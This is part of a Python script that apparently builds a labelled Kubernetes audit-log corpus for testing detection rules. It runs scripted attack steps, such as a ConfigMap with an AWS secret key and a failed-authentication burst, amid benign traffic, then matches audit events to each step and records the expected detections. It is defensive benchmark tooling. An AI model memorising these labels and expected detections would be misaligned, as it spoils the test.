        ("ingress-no-tls", "an Ingress without TLS created", ["Ingress Without TLS"], E, [], at.ingress),
        ("configmap-credentials", "a ConfigMap holding an AWS secret access key and a password",
         ["Credentials Stored in a ConfigMap"], E, [], at.configmap_credentials),
    ]


# ------------------------------------------------------------------ run

def marker(api, name):
    api.get(f"/api/v1/namespaces/{name}")
    return api.last_audit_id


def run(args):
    random.seed(args.seed)
    tb = Testbed(args.state, args.server, args.kubectl)
    os.makedirs(args.data, exist_ok=True)
    w = World(tb)
    t0 = time.time()
    admin, _sched, _nodes = setup(tb, w, args.data, args.rate)
    log(f"setup done in {time.time() - t0:.0f} s")
    at = Attacks(tb, w)
    plan = steps(at, w)
    start_id = marker(admin, "palisade-corpus-start")
    t_start = time.time()
    benign = Benign(tb, w, args.rate)
    benign.start(args.duration)
    n = len(plan)
    span = args.duration - 30
    records = []
    for i, (sid, text, expect, user_, needs, fn) in enumerate(plan):
        due = t_start + 15 + i * span / n + random.uniform(0, span / n / 3)
        time.sleep(max(0, due - time.time()))
        at.raw_ids = []
        s0 = time.time()
        try:
            fn()
            err = None
        except Exception as e:
            err = repr(e)
            log(f"step {sid}: {err}")
        s1 = time.time()
        records.append({"id": sid, "attack": text, "expect": expect, "user": user_, "needs": needs,
                        "start": s0, "end": s1, "raw_audit_ids": at.raw_ids, "error": err,
                        "source_ip": ATTACK_BRUTE if sid == "failed-auth-burst" else None})
        log(f"step {i + 1}/{n} {sid} ({s1 - s0:.1f} s) at +{s0 - t_start:.0f} s")
    time.sleep(max(0, t_start + args.duration - time.time()))
    STOP.set()
    close_watches()
    time.sleep(2)
    end_id = marker(admin, "palisade-corpus-end")
    with COUNT_LOCK:
        counts = dict(COUNT)
    log(f"traffic done ({time.time() - t_start:.0f} s); requests sent: {json.dumps(counts, sort_keys=True)}")
    with open(os.path.join(tb.work, "run.json"), "w") as f:
        json.dump({"start_marker": start_id, "end_marker": end_id, "steps": records,
                   "attackers": ATTACKERS, "attacker_addresses": ATTACKER_ADDRESSES,
                   "requests_sent": counts, "duration": args.duration, "rate": args.rate}, f, indent=1)


# ------------------------------------------------------------------ collect

PEOPLE = {"alice", "bob", "dave", "carol"}


def kind_of(u):
    if u == "":
        return "failed authentication (no user)"
    if u == "system:apiserver":
        return "API server (loopback)"
    if u == "system:kube-controller-manager" or u.startswith("system:serviceaccount:kube-system:"):
        return "controllers (kube-controller-manager)"
    if u == "system:kube-scheduler":
        return "scheduler"
    if u.startswith("system:node:"):
        return "nodes (kubelets)"
    if u.startswith("system:serviceaccount:monitoring:"):
        return "monitoring (Prometheus, kube-state-metrics, kube-rbac-proxy)"
    if u.startswith("system:serviceaccount:ci:") or u == "ci-bot":
        return "CI (server-side apply, Helm, smoke tests)"
    if u.startswith("system:serviceaccount:cert-manager:"):
        return "operator (cert-manager, cainjector)"
    if u.startswith("system:serviceaccount:argocd:"):
        return "Argo CD"
    if u.startswith("system:serviceaccount:"):
        return "in-app service accounts"
    if u in PEOPLE:
        return "people (kubectl)"
    if u == "restricted-viewer":
        return "dashboard (restricted-viewer token)"
    return "other: " + u


def audit_files(state):
    d = os.path.join(state, "audit")
    rotated = sorted(glob.glob(os.path.join(d, "audit-*.log")))  # lumberjack: audit-<time>.log
    return rotated + [os.path.join(d, "audit.log")]


def collect(args):
    work = os.path.join(args.state, "corpus")
    with open(os.path.join(work, "run.json")) as f:
        rr = json.load(f)
    lines = []
    for path in audit_files(args.state):
        with open(path, "rb") as f:
            for raw in f:
                raw = raw.rstrip(b"\n")
                if raw:
                    lines.append(raw)
    evs = [json.loads(x) for x in lines]
    by_id = {}
    for e in evs:
        by_id.setdefault(e["auditID"], e)
    t_start = parse_ts(by_id[rr["start_marker"]]["requestReceivedTimestamp"])
    t_end = parse_ts(by_id[rr["end_marker"]]["requestReceivedTimestamp"])
    markers = {rr["start_marker"], rr["end_marker"]}
    kept = []
    for raw, e in zip(lines, evs):
        t = parse_ts(e["requestReceivedTimestamp"])
        if t_start < t < t_end and e["auditID"] not in markers:
            kept.append((raw, e, t))
    problems = []
    steps_out = []
    attack_ids = set()
    step_of = {}
    for st in rr["steps"]:
        ids, seen = [], set()
        for raw, e, t in kept:
            if not (st["start"] - 0.05 <= t <= st["end"] + 0.05) or e["auditID"] in step_of:
                continue
            u = e.get("user", {}).get("username", "")
            ip = (e.get("sourceIPs") or [""])[0]
            if st["source_ip"]:
                hit = u == "" and ip == st["source_ip"]
            else:
                hit = u == st["user"]
            if hit:
                if e["auditID"] not in seen:
                    ids.append(e["auditID"])
                    seen.add(e["auditID"])
                step_of.setdefault(e["auditID"], st["id"])
        missing = [i for i in st["raw_audit_ids"] if i not in seen]
        if missing:
            problems.append(f"step {st['id']}: {len(missing)} of its requests not found in the log")
        if not ids:
            problems.append(f"step {st['id']}: no events")
        if st.get("error"):
            problems.append(f"step {st['id']}: {st['error']}")
        attack_ids |= seen
        obs = {}
        body = False
        for raw, e, t in kept:
            if e["auditID"] in seen:
                o = e.get("objectRef") or {}
                what = (o.get("resource", "") + ("/" + o["subresource"] if o.get("subresource") else "")) \
                    or e.get("requestURI", "").split("?")[0]
                k = f"{e['stage']} {e['verb']} {what} {e.get('responseStatus', {}).get('code')}"
                obs[k] = obs.get(k, 0) + 1
                body = body or "requestObject" in e
        step = {"id": st["id"], "attack": st["attack"], "expect": st["expect"], "user": st["user"],
                "needs": st["needs"], "audit_ids": ids, "events": sum(obs.values()),
                "observed": [f"{k} x{v}" if v > 1 else k for k, v in obs.items()]}
        if st["source_ip"]:
            step["source_ip"] = st["source_ip"]
        if st["id"] == "configmap-credentials" and not body:
            step["note"] = ("the generated audit policy logs ConfigMaps at Metadata (CIS 3.2.2), so the "
                            "request body the rule reads is not in the log")
        steps_out.append(step)

    attackers = set(rr["attackers"])
    addrs = set(rr["attacker_addresses"])
    benign_by_kind = {}
    benign = 0
    for raw, e, t in kept:
        u = e.get("user", {}).get("username", "")
        ip = (e.get("sourceIPs") or [""])[0]
        if e["auditID"] in attack_ids:
            continue
        if u in attackers or ip in addrs:
            problems.append(f"benign event {e['auditID']} by attacker identity {u or ip} "
                            f"({e['verb']} {e.get('requestURI')})")
            continue
        if u == "palisade-admin":
            problems.append(f"setup identity after the start mark: {e['auditID']} {e['requestURI']}")
        benign += 1
        k = kind_of(u)
        benign_by_kind[k] = benign_by_kind.get(k, 0) + 1
    os.makedirs(args.data, exist_ok=True)
    out = os.path.join(args.data, "native.jsonl.gz")
    with open(out, "wb") as f:
        with gzip.GzipFile(fileobj=f, mode="wb", compresslevel=9, mtime=0, filename="") as g:
            for raw, e, t in kept:
                g.write(raw + b"\n")
    labels = {"kubernetes": "v1.37.2", "generated": datetime.datetime.fromtimestamp(
                  t_end, datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ"),
              "events": len(kept), "benign_events": benign, "internal_cidrs": ["127.0.0.0/8"],
              "steps": steps_out, "attackers": sorted(attackers), "attacker_addresses": sorted(addrs),
              "benign_by_kind": dict(sorted(benign_by_kind.items(), key=lambda kv: -kv[1])),
              "duration_seconds": round(t_end - t_start, 1)}
    with open(os.path.join(args.data, "labels.json"), "w") as f:
        json.dump(labels, f, indent=1)
        f.write("\n")
    log(f"{len(kept)} events ({benign} benign, {len(attack_ids)} attack events in {len(steps_out)} steps) "
        f"over {t_end - t_start:.0f} s; {os.path.getsize(out) / 1e6:.2f} MB compressed")
    for k, v in labels["benign_by_kind"].items():
        log(f"  {v:6d}  {k}")
    for s in steps_out:
        log(f"  {s['id']}: {s['events']} events: {'; '.join(s['observed'])}")
    for p in problems:
        log("PROBLEM: " + p)
    if benign < args.min_benign:
        problems.append(f"only {benign} benign events (want {args.min_benign})")
        log("PROBLEM: " + problems[-1])
    return 1 if problems else 0


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = ap.add_subparsers(dest="cmd", required=True)
    r = sub.add_parser("run")
    r.add_argument("--state", required=True)
    r.add_argument("--server", required=True)
    r.add_argument("--kubectl", required=True)
    r.add_argument("--data", required=True)
    r.add_argument("--duration", type=float, default=360, help="seconds of traffic after the start mark")
    r.add_argument("--rate", type=float, default=5.0, help="scales the machine actors' request rates")
    r.add_argument("--seed", type=int, default=20261207)
    c = sub.add_parser("collect")
    c.add_argument("--state", required=True)
    c.add_argument("--data", required=True)
    c.add_argument("--min-benign", type=int, default=40000)
    args = ap.parse_args()
    if args.cmd == "run":
        run(args)
        return 0
    return collect(args)


if __name__ == "__main__":
    sys.exit(main())
